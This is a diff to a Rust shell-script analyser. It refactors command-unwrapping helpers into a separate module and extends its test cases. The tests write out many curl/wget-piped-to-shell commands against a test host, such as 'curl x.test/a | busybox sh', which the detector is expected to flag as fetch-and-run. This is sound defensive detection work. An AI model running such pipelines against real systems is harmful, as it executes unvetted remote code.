@@ -4,6 +4,7 @@ use std::collections::HashSet;
 
 use pratique_core::Severity;
 
+use super::plain::{Plain, SHELLS, base};
 use super::words::{Command, Pipeline, Word, parse};
 use super::{MAX_ACTS, MAX_DEPTH, hidden_place};
 
@@ -76,138 +77,13 @@ pub(crate) fn acts(script: &str) -> (Vec<Act>, bool) {
     (found.acts, found.whole && !full)
 }
 
-const SHELLS: [&str; 11] =
-    ["sh", "bash", "dash", "zsh", "ash", "ksh", "mksh", "fish", "csh", "tcsh", "busybox"];
-const INTERPRETERS: [&str; 8] = ["python", "perl", "ruby", "node", "php", "lua", "pwsh", "deno"];
 const FETCHERS: [&str; 9] =
     ["curl", "wget", "fetch", "aria2c", "axel", "lwp-download", "lynx", "ftpget", "tftp"];
-/// Programs that run what follows their options.
-const WRAPPERS: [&str; 22] = [
-    "sudo", "doas", "env", "nohup", "setsid", "exec", "time", "nice", "ionice", "timeout", "stdbuf", "flock",
-    "command", "builtin", "then", "do", "else", "if", "while", "until", "!", "xargs",
-];
-/// Options of wrappers that take a word.
-const WITH_VALUE: [&str; 7] = ["-u", "-g", "-n", "-c", "-k", "-s", "-I"];
-
-/// Whether a program of this name, without folder, is a shell.
-pub(crate) fn is_shell(name: &str) -> bool {
-    SHELLS.contains(&name)
-}
-
 struct Found {
     acts: Vec<Act>,
     whole: bool,
     /// Files that were fetched so far.
     fetched: HashSet<String>,
-}
-
-/// A command without what wraps it.
-struct Plain<'c> {
-    command: &'c Command,
-    /// Name of the program without its folder and version.
-    name: String,
-    /// Program as it is written.
-    program: &'c str,
-    arguments: &'c [Word],
-}
-
-impl<'c> Plain<'c> {
-    fn of(command: &'c Command) -> Option<Self> {
-        let mut words = command.words.as_slice();
-        loop {
-            let (first, rest) = words.split_first()?;
-            let base = base(&first.text);
-            if is_assignment(&first.text) {
-                words = rest;
-            } else if WRAPPERS.contains(&base.as_str()) {
-                let mut after = rest;
-                let shell_option = base == "flock" || base == "xargs";
-                while let Some((option, more)) = after.split_first() {
-                    let text = option.text.as_str();
-                    if text.starts_with('-') && text.len() > 1 {
-                        if shell_option && text == "-c" {
-                            break;
-                        }
-                        let value = WITH_VALUE.contains(&text)
-                            && !matches!(base.as_str(), "exec" | "nohup" | "setsid");
-                        after = more.get(usize::from(value)..).unwrap_or_default();
-                    } else if (base == "timeout" && text.starts_with(|c: char| c.is_ascii_digit()))
-                        || (base == "flock" && text.starts_with('/'))
-                    {
-                        after = more;
-                    } else {
-                        break;
-                    }
-                }
-                if after.is_empty() {
-                    return None;
-                }
-                words = after;
-            } else {
-                return Some(Self { command, name: base, program: &first.text, arguments: rest });
-            }
-        }
-    }
-
-    fn runs_code(&self) -> bool {
-        SHELLS.contains(&self.name.as_str()) || INTERPRETERS.contains(&self.name.as_str())
-    }
-
-    fn is_shell(&self) -> bool {
-        is_shell(&self.name)
-    }
-
-    fn has(&self, options: &[&str]) -> bool {
-        self.arguments.iter().any(|word| options.contains(&word.text.as_str()))
-    }
-
-    /// The script that is handed over as an argument.
-    fn script(&self) -> Option<&'c Word> {
-        let arguments = self.arguments;
-        let after = |test: &dyn Fn(&str) -> bool| {
-            arguments.iter().position(|word| test(&word.text)).and_then(|place| arguments.get(place + 1))
-        };
-        let short = |text: &str, letter: char| {
-            text.starts_with('-') && !text.starts_with("--") && text.ends_with(letter)
-        };
-        match self.name.as_str() {
-            "su" | "runuser" | "script" | "flock" => after(&|text| short(text, 'c') || text == "--command"),
-            "perl" | "ruby" | "node" | "lua" => after(&|text| short(text, 'e') || short(text, 'E')),
-            "php" => after(&|text| text == "-r"),
-            name if SHELLS.contains(&name) || name == "python" => after(&|text| short(text, 'c')),
-            _ => None,
-        }
-    }
-
-    /// The file of code that it runs: itself, or what an interpreter is handed first.
-    fn file(&self) -> Option<&'c str> {
-        if self.program.contains('/') && !self.runs_code() {
-            return Some(self.program);
-        }
-        let sources = matches!(self.name.as_str(), "." | "source");
-        if !sources && (!self.runs_code() || self.script().is_some()) {
-            return None;
-        }
-        self.arguments
-            .iter()
-            .map(|word| word.text.as_str())
-            .find(|text| !text.starts_with('-') && !text.is_empty())
-    }
-}
-
-/// The last part of a program's path without a version: `/usr/bin/python3.11` is `python`.
-fn base(program: &str) -> String {
-    let name = program.rsplit('/').next().unwrap_or_default();
-    let bare = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
-    if INTERPRETERS.contains(&bare) { bare.to_owned() } else { name.to_owned() }
-}
-
-fn is_assignment(word: &str) -> bool {
-    word.split_once('=').is_some_and(|(name, _)| {
-        !name.is_empty()
-            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
-            && !name.as_bytes()[0].is_ascii_digit()
-    })
 }
 
 impl Found {
@@ -308,20 +184,13 @@ impl Found {
                 }
             }
         }
-        if let Some(script) = plain.script() {
-            if plain.is_shell() || matches!(plain.name.as_str(), "su" | "runuser" | "script" | "flock") {
-                self.script(&script.text, line, depth);
-            } else if let Some(kind) = foreign_code(&script.text) {
-                self.add(kind, line, &plain.name);
-            }
-        } else if plain.name == "eval" {
-            let text: Vec<&str> = plain.arguments.iter().map(|word| word.text.as_str()).collect();
-            self.script(&text.join(" "), line, depth);
+        let scripts = plain.shell_scripts();
+        for script in &scripts {
+            self.script(script, line, depth);
         }
-        if let (Some(input), true) = (&plain.command.input, plain.runs_code()) {
-            if plain.is_shell() {
-                self.script(input, line, depth);
-            } else if let Some(kind) = foreign_code(input) {
+        if scripts.is_empty() && plain.runs_code() {
+            let code = plain.script().map(|word| &word.text).or(plain.command.input.as_ref());
+            if let Some(kind) = code.and_then(|code| foreign_code(code)) {
                 self.add(kind, line, &plain.name);
             }
         }
@@ -532,6 +401,15 @@ mod tests {
         for (script, kind) in [
             ("curl -fsSL http://x.test/i.sh | sh", FetchAndRun),
             ("wget -qO- x.test/a|sudo -E bash -s -- -y", FetchAndRun),
+            ("curl x.test/a | bash -s stable", FetchAndRun),
+            ("curl x.test/a | bash -x -", FetchAndRun),
+            ("curl x.test/a | busybox sh", FetchAndRun),
+            ("bash -x -c 'curl x.test | sh'", FetchAndRun),
+            ("bash -exo pipefail -c 'curl x.test | sh'", FetchAndRun),
+            ("sh -c -e 'curl x.test | sh'", FetchAndRun),
+            ("bash -cx -- 'curl x.test | sh'", FetchAndRun),
+            ("busybox sh -c 'curl x.test | sh'", FetchAndRun),
+            ("curl -o a x.test/a; bash -x a", FetchAndRun),
             ("sh -c \"$(curl -fsSL https://x.test/i)\"", FetchAndRun),
             ("bash <(curl -s https://x.test/i)", FetchAndRun),
             ("eval `wget -O - x.test`", FetchAndRun),
@@ -592,6 +470,9 @@ mod tests {
             "grep root /etc/passwd",
             "test -f /etc/ld.so.preload && cat /etc/ld.so.preload",
             "bash -c 'echo ok'",
+            "bash -o errexit run.sh -c 'curl x.test | sh'",
+            "curl x.test/a | busybox tar x",
+            "curl x.test/a | bash check.sh -s",
             "python3 -c 'import socket; print(socket.gethostname())'",
             "python3 -m http.server",
             "case $1 in start) /usr/sbin/daemon;; esac",
